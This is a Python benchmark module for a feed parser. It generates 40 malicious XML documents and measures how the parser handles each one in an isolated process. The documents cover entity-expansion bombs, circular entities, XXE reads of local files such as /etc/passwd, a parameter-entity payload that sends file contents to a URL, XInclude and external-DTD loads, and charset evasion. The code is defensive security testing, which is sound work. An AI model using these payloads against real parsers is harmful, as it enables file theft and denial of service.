"""XML made to read files, open sockets or eat memory: 40 feeds, each read in a process of its own.

Run as `python -m benchmarks.xml_attacks` it prints what each did: a JSON object a line. Any file opened
or socket made while a feed is read is an error of that feed; a canary file lies where they point, and
a server listens there.
"""

from __future__ import annotations

import json
import os
import resource
import socket
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

from nutgraf import sources
from nutgraf.errors import Refused
from nutgraf.sources.model import RawObject, Received, Source

CANARY = "canary-7f3a1c"
_SOURCE = Source(id="s", name="S", kind="feed", address="https://s.example/", owner="S")


def attacks(canary: Path, port: int) -> dict[str, bytes]:
    """The 40 documents by name; `canary` is a file they try to read, `port` one they try to ask."""
    place, web = canary.as_uri(), f"http://127.0.0.1:{port}/x.dtd"
    return {
        **_growing(),
        **{f"external {name}": _doc(doctype, use) for name, doctype, use in _external(place, web)},
        **_including(place, web),
        **_prologs(place),
    }


def _doc(doctype: str, use: str = "&x;", *, head: str = '<?xml version="1.0"?>') -> bytes:
    return _text(doctype, use, head).encode()


def _text(doctype: str, use: str, head: str) -> str:
    return (
        f'{head}<!DOCTYPE rss [{doctype}]><rss version="2.0"><channel><title>T</title><item><guid>g</guid>'
        f"<title>Words</title><description>before {use} after</description></item></channel></rss>"
    )


def _growing() -> dict[str, bytes]:
    """Entities that grow: by powers, by squares, in circles, in attributes and in parameters."""
    powers = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)
    )
    twice = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{n} "&a{n - 1};&a{n - 1};">' for n in range(1, 40)
    )
    coded = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{n} "{f"&#38;a{n - 1};" * 10}">' for n in range(1, 12)
    )
    return {
        "laughs": _doc(powers, "&a11;"),
        "laughs in a title": _doc(powers, "x").replace(b"Words", b"&a11;"),
        "laughs in an attribute": _doc(powers, '<a b="&a11;"/>'),
        "laughs twice each": _doc(twice, "&a39;"),
        "laughs behind character references": _doc(coded, "&a11;"),
        "laughs in parameters": _doc(
            '<!ENTITY % a "ha"><!ENTITY % b "&#37;a;&#37;a;"><!ENTITY % c "&#37;b;&#37;b;"> %c;', "x"
        ),
        "laughs in a default attribute": _doc(powers + '<!ATTLIST item z CDATA "&a11;">', "x"),
        "quadratic": _doc(f'<!ENTITY x "{"A" * 50_000}">', "&x;" * 2_000),
        "quadratic in pieces": _doc(f'<!ENTITY x "{"A" * 30}">', "&x;" * 100_000),
        "quadratic in attributes": _doc(f'<!ENTITY x "{"A" * 9_000}">', '<a b="&x;"/>' * 3_000),
        "many entities": _doc("".join(f'<!ENTITY e{n} "{"B" * 30}">' for n in range(20_000)), "&e1;"),
        "circle": _doc('<!ENTITY x "&y;"><!ENTITY y "&x;">'),
        "circle of one": _doc('<!ENTITY x "&x;">'),
        "circle of parameters": _doc('<!ENTITY % p "&#37;p;"> %p;', "x"),
        "a name without end": _doc(f'<!ENTITY {"n" * 200_000} "v">', f"&{'n' * 200_000};"),
        "comments without end": _doc("<!-- " + "- " * 200_000, "x"),
        "brackets in the subset": _doc("[" * 100_000, "x"),
        "quotes in the subset": _doc("\"'" * 100_000 + "\"", "x"),
    }  # fmt: skip


def _external(place: str, web: str) -> list[tuple[str, str, str]]:
    return [
        ("file", f'<!ENTITY x SYSTEM "{place}">', "&x;"),
        ("public file", f'<!ENTITY x PUBLIC "a" "{place}">', "&x;"),
        ("address", f'<!ENTITY x SYSTEM "{web}">', "&x;"),
        ("file by a parameter", f'<!ENTITY % p SYSTEM "{place}"> %p;', "x"),
        ("address by a parameter", f'<!ENTITY % p SYSTEM "{web}"> %p;', "x"),
        (
            "file sent to an address",
            f'<!ENTITY % f SYSTEM "{place}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'{web}?&#37;f;\'>"> %e; %s;',
            "x",
        ),
        (
            "unparsed entity",
            f'<!NOTATION n SYSTEM "{web}"><!ENTITY x SYSTEM "{place}" NDATA n>',
            "x",
        ),
        ("passwords", '<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;"),
        ("a device", '<!ENTITY x SYSTEM "file:///dev/zero">', "&x;"),
        ("netdoc", '<!ENTITY x SYSTEM "netdoc:/etc/passwd">', "&x;"),
        ("behind a comment", f'<!-- ]> --><!ENTITY x SYSTEM "{place}">', "&x;"),
        ("in small letters", f'<!entity x system "{place}">', "&x;"),
    ]


def _including(place: str, web: str) -> dict[str, bytes]:
    xi = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    words = "<title>T</title><item><guid>g</guid><title>Words</title>{}</item>"
    rss = '<?xml version="1.0"?>{}<rss version="2.0" {}><channel>{}</channel></rss>'
    item = words.format("")
    return {
        "XInclude": rss.format("", xi, words.format(
            f'<description><xi:include href="{place}" parse="text"/></description>')).encode(),
        "XInclude of an address": rss.format("", xi, words.format(
            f'<description><xi:include href="{web}"/></description>')).encode(),
        "stylesheet": rss.format(
            f'<?xml-stylesheet type="text/xsl" href="{place}"?>', "", item).encode(),
        "external DTD": rss.format(f'<!DOCTYPE rss SYSTEM "{place}">', "", item).encode(),
        "external DTD of an address": rss.format(
            f'<!DOCTYPE rss PUBLIC "-//N//DTD" "{web}">', "", item).encode(),
    }  # fmt: skip


def _prologs(place: str) -> dict[str, bytes]:
    """The same in charsets that pass by whoever looks for ASCII."""
    entity = f'<!ENTITY x SYSTEM "{place}">'
    laughs = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)
    )
    sixteen, seven = (
        '<?xml version="1.0" encoding="utf-16"?>',
        '<?xml version="1.0" encoding="utf-7"?>',
    )
    return {
        "UTF-16": _text(entity, "&x;", sixteen).encode("utf-16"),
        "UTF-16 without a mark": _text(entity, "&x;", sixteen).encode("utf-16-be"),
        "UTF-16 laughs": _text(laughs, "&a11;", sixteen).encode("utf-16"),
        "UTF-7": seven.encode() + _text(entity, "&x;", "").encode("utf-7"),
        "UTF-32": _text(entity, "&x;", '<?xml version="1.0" encoding="utf-32"?>').encode("utf-32"),
    }  # fmt: skip


def measured(name: str, data: bytes) -> dict[str, Any]:
    """What reading one document does, in a process split off for it: seconds of CPU, MiB above idle,
    whether the canary came through, what was opened."""
    reading, writing = os.pipe()
    child = os.fork()
    if not child:
        os.close(reading)
        with os.fdopen(writing, "w") as out:
            out.write(json.dumps(_watched(name, data)))
            out.flush()
            os._exit(0)
    os.close(writing)
    with os.fdopen(reading) as into:
        said = into.read()
    _, status = os.waitpid(child, 0)
    found: dict[str, Any] = json.loads(said) if said else {"name": name, "died": status}
    return found


def _watched(name: str, data: bytes) -> dict[str, Any]:
    opened: list[str] = []

    def watch(event: str, args: tuple[object, ...]) -> None:
        if event == "open" or event.startswith("socket."):
            what = str(args[0]) if args else ""
            if not what.endswith((".py", ".pyc")):
                opened.append(f"{event} {what}"[:200])

    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    sys.addaudithook(watch)
    began = time.process_time()
    raw = RawObject(name=name, data=data, sha256="0" * 64)
    found = tuple(sources.read(raw, _SOURCE))
    seconds = time.process_time() - began
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    return {
        "name": name,
        "seconds": round(seconds, 3),
        "mib": round((peak - before) / 1024, 1),
        "items": sum(isinstance(one, Received) for one in found),
        "rules": [one.rule for one in found if isinstance(one, Refused)],
        "leaked": CANARY in repr(found) or "root:" in repr(found),
        "opened": opened,
    }


def _warm() -> None:
    """Everything imported and used once, so that what is measured is the document."""
    import charset_normalizer  # noqa: F401
    import lxml.html  # noqa: F401

    for data in (_doc("", "x"), _doc("", "x & <b")):
        tuple(sources.read(RawObject(name="w", data=data, sha256="0" * 64), _SOURCE))


class Bait:
    """A file and a server on loopback that tell whether anybody came, by whatever way."""

    def __init__(self, folder: Path) -> None:
        self.canary = folder / "canary.txt"
        self.canary.write_text(CANARY)
        self._server = socket.create_server(("127.0.0.1", 0))
        self._server.setblocking(False)
        self.port = int(self._server.getsockname()[1])
        self._set()

    def _set(self) -> None:
        # Read before it was last written: then every file system notes the next reading.
        os.utime(self.canary, (1_000_000_000, 1_700_000_000))

    def taken(self) -> list[str]:
        """What was touched since the last time."""
        found = ["the canary"] if self.canary.stat().st_atime != 1_000_000_000 else []
        try:
            self._server.accept()[0].close()
            found.append("the server")
        except BlockingIOError:
            pass
        self._set()
        return found

    def close(self) -> None:
        """Stop listening."""
        self._server.close()


def outcomes() -> list[dict[str, Any]]:
    """Every attack, measured."""
    _warm()
    with tempfile.TemporaryDirectory() as folder:
        bait = Bait(Path(folder))
        rows = []
        for name, data in attacks(bait.canary, bait.port).items():
            row = measured(name, data)
            rows.append({**row, "taken": bait.taken()})
        bait.close()
    return rows


if __name__ == "__main__":
    for row in outcomes():
        sys.stdout.write(json.dumps(row) + "\n")
